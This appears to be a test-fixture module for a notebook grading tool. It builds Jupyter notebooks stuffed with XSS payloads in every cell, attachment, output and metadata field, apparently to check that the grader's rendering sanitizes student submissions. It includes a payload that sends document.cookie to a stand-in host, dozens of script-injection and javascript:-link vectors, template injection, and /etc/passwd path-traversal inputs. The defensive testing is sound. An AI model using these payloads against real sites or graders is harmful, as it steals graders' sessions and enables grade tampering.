"""Words and notebooks by candidates who would like their grader's browser to do something for them."""

from __future__ import annotations

import base64
import copy
from io import BytesIO
from typing import Any

from PIL import Image

Json = dict[str, Any]

ELSEWHERE = "http://elsewhere.example"
"""A host that no page of ours may ever ask."""

ACT = f"alert(1);document.title='acted';fetch('{ELSEWHERE}/'+document.cookie)"
"""What the candidate would like to be done."""


def picture(form: str = "PNG") -> str:
    """A small picture as an attachment holds it."""
    out = BytesIO()
    Image.new("RGB", (3, 2), "red").save(out, form)
    return base64.b64encode(out.getvalue()).decode("ascii")


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{ACT}"><script>{ACT}</script></svg>'
_ENCODED = base64.b64encode(SVG.encode()).decode("ascii")

ATTACHMENTS: Json = {
    "good.png": {"image/png": picture()},
    "good.jpg": {"image/jpeg": [picture("JPEG")[:40], picture("JPEG")[40:]]},
    "page.png": {"text/html": f"<script>{ACT}</script>"},
    "drawing.png": {"image/svg+xml": SVG},
    "lies.png": {"image/png": _ENCODED},
    "odd.png": {"image/png": 7},
    f'q" onerror="{ACT}': {"image/png": picture()},
}
"""Two that are pictures, and what is none."""

WORDS = (
    f'<img src=x onerror="{ACT}">',
    f"<script>{ACT}</script>",
    f'<svg onload="{ACT}"><circle r="1"/></svg>',
    f'<iframe srcdoc="<script>{ACT}</script>"></iframe>',
    f"<iframe src='javascript:{ACT}'></iframe>",
    f'<details open ontoggle="{ACT}">a</details>',
    f'<input autofocus onfocus="{ACT}">',
    f'<form action="{ELSEWHERE}"><input name="a"><button>Full credit</button></form>',
    f'<math><mtext></form><form><mglyph><style></math><img src onerror="{ACT}">',
    f"<style>@import '{ELSEWHERE}/a.css'; body {{ background: url({ELSEWHERE}/b.png) }}</style>",
    f'<link rel="stylesheet" href="{ELSEWHERE}/a.css"><base href="{ELSEWHERE}/">',
    f'<meta http-equiv="refresh" content="0; url={ELSEWHERE}/">',
    f'<object data="{ELSEWHERE}/a.svg"></object><embed src="{ELSEWHERE}/a.swf">',
    f'<video src="{ELSEWHERE}/a.mp4" autoplay></video><audio src="{ELSEWHERE}/a.mp3" autoplay></audio>',
    f"<!-- --!><script>{ACT}</script> -->",
    f"<!--[if true]><script>{ACT}</script><![endif]-->",
    f"<![CDATA[<script>{ACT}</script>]]>",
    f"<?php <script>{ACT}</script> ?>",
    f"[click](javascript:{ACT})",
    "[click](java&#115;cript:alert&lpar;1&rpar;)",
    "[click](jav\tascript:alert(1)) [click](&#x6A;avascript:alert(1)) [click](JaVaScRiPt:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [click](vbscript:x)",
    "<javascript:alert(1)> <data:text/html,a> <http://elsewhere.example/> www.elsewhere.example",
    "[click](/formgrader?path=submitted) [click](../../formgrader/api/grades) [click](evil.html)",
    f'[click][a]\n\n[a]: javascript:alert(1) "x\' onmouseover={ACT}"',
    "[click][b]\n\n[b]:\n  <javascript:alert(1)>\n  'title'",
    f"![a]({ELSEWHERE}/pixel.png) ![b][c]\n\n[c]: {ELSEWHERE}/pixel.png",
    f'![a](data:image/svg+xml;base64,{_ENCODED}) ![a](//elsewhere.example/a.png "x")',
    "![a](attachment:nothing.png) ![a](attachment:page.png) ![a](attachment:drawing.png) ![a](attachment:lies.png)",
    "![a](attachment:odd.png) ![a](attachment:../../../etc/passwd) ![a](file:///etc/passwd) ![a](law-31.ipynb)",
    "![good](attachment:good.png) ![good](attachment:good.jpg)",
    f'![x" onerror="{ACT}](attachment:good.png) ![a](x" onerror="{ACT}) ![a](<x" onerror=alert(1)>)',
    r"$\href{javascript:alert(1)}{click}$ $$\href{javascript:alert(1)}{click}$$ \(\href{javascript:alert(1)}{a}\)",
    "\\begin{equation}\\href{javascript:alert(1)}{a}\\end{equation} \\[ \\style{background:red}{a} \\]",
    f"$\\unicode{{<img src=x onerror={ACT}>}}$ `$`<img src=x onerror={ACT}>`$`",
    f'```mermaid\ngraph TD\nA[<img src=x onerror={ACT}>] --> B\nclick A href "javascript:{ACT}"\n```',
    f"```html\n\n</code></pre></div>\n\n<script>{ACT}</script>\n\n```",
    f"    </code></pre>\n\n    <script>{ACT}</script>",
    f"`</code>` ``` </div>\n\n<script>{ACT}</script>",
    f"</div></div></div>\n\n<script>{ACT}</script>\n",
    f"| a | b |\n|---|---|\n| <script>{ACT}</script> | [x](javascript:alert(1)) |",
    f"&lt;script&gt;{ACT}&lt;/script&gt; &#60;img src=x onerror={ACT}&#62; &amp;lt;b&amp;gt;",
    f"\\<script>{ACT}\\</script> <scr\x00ipt>{ACT}</scr\x00ipt> ＜script＞ <ſcript>{ACT}</ſcript>",
    f"{{{{ ''.__class__ }}}} {{% include '/etc/passwd' %}} ${{{ACT}}} <%= 1 %>",
    "\u202egnp.drac\u202c \ud800 \udfff \x1b]8;;http://elsewhere.example\x07a\x1b]8;;\x07",
    '<a id="main-table" name="base_url" class="score" href="javascript:alert(1)">a</a>',
    '<textarea></textarea><script nonce="">alert(1)</script>',
)
"""In the place of an answer in words, and in every other cell."""

LINKS = (
    f"[click]({ELSEWHERE}) <{ELSEWHERE}> {ELSEWHERE}/ www.elsewhere.example a@elsewhere.example\n\n[a]: {ELSEWHERE}\n\n"
    f"[a] [manage](/formgrader/manage_students) ![a]({ELSEWHERE}/b.png) *not* _this_ [ ] $x$\n\n<b>bold</b>\n\n# Title"
)
"""What a reader of Markdown would make into links, without a sign that is not honest."""


def hostile_notebook(found: Json, spoken: str) -> Json:
    """This notebook with such words in its answer in words, and in every place that a notebook has."""
    made = copy.deepcopy(found)
    for number, cell in enumerate(made["cells"]):
        words = WORDS[number % len(WORDS)]
        own = (cell["metadata"].get("nbgrader") or {}).get("grade_id")
        if own == spoken:
            cell["source"], cell["attachments"] = "\n\n".join(["", *WORDS]), ATTACHMENTS
        elif cell["cell_type"] == "markdown":
            cell["source"], cell["attachments"] = words, ATTACHMENTS
        else:
            cell["source"], cell["outputs"] = words, _outputs(words)
        cell["metadata"] |= {"tags": [f'x"><script>{ACT}</script>', "a"], "slideshow": {"slide_type": words}}
    made["cells"] += [
        {"cell_type": kind, "id": f"extra-{kind}-{number}", "metadata": {"raw_mimetype": "text/html"}, "source": words}
        | ({"outputs": _outputs(words), "execution_count": 1} if kind == "code" else {})
        for kind in ("raw", "markdown", "code")
        for number, words in enumerate(WORDS)
    ]
    made["metadata"] |= {
        "title": f"</title><script>{ACT}</script>",
        "kernelspec": {
            "name": f"<script>{ACT}</script>",
            "display_name": f"<img src=x onerror={ACT}>",
            "language": "x",
        },
        "language_info": {"name": f'"><script>{ACT}</script>', "pygments_lexer": "html", "mimetype": "text/html"},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": f"<b>{ACT}"}}}},
        "authors": [{"name": f"<script>{ACT}</script>"}],
    }
    sheets = made["metadata"].get("bridgecourse_sheets", {}).get("sheets", {})
    for sheet in sheets.values():
        sheet["scene"] = sheet["title"] = f"<img src=x onerror={ACT}>"
    return made


def _outputs(words: str) -> list[Json]:
    return [
        {
            "output_type": "display_data",
            "metadata": {"image/png": {"width": f'1" onerror="{ACT}'}},
            "data": {
                "text/html": words,
                "text/markdown": words,
                "text/latex": r"$\href{javascript:alert(1)}{a}$",
                "application/javascript": ACT,
                "image/svg+xml": SVG,
                "image/png": f'x" onerror="{ACT}',
                "application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2},
                "text/vnd.mermaid": f"graph TD\nA[<img src=x onerror={ACT}>]",
                "text/plain": words,
            },
        },
        {"output_type": "stream", "name": "stdout", "text": f"\x1b[31m{words}"},
        {"output_type": "error", "ename": words, "evalue": words, "traceback": [words]},
    ]


def told_thrice(found: Json, spoken: str) -> Json:
    """This notebook with such words wherever words of its answer are kept: before the model answer, and in copies."""
    made = copy.deepcopy(found)
    own = next(cell for cell in made["cells"] if cell["id"] == spoken)
    own["source"], own["attachments"] = LINKS, ATTACHMENTS
    made["cells"].append({**own, "source": "\n\n".join(["", *WORDS])})
    made["cells"].insert(0, {**own, "source": "\n".join(WORDS)})
    made["metadata"].setdefault("bridgecourse", {})["words"] = {spoken: {"text": f"{LINKS}\n\n{WORDS[0]}"}}
    return made
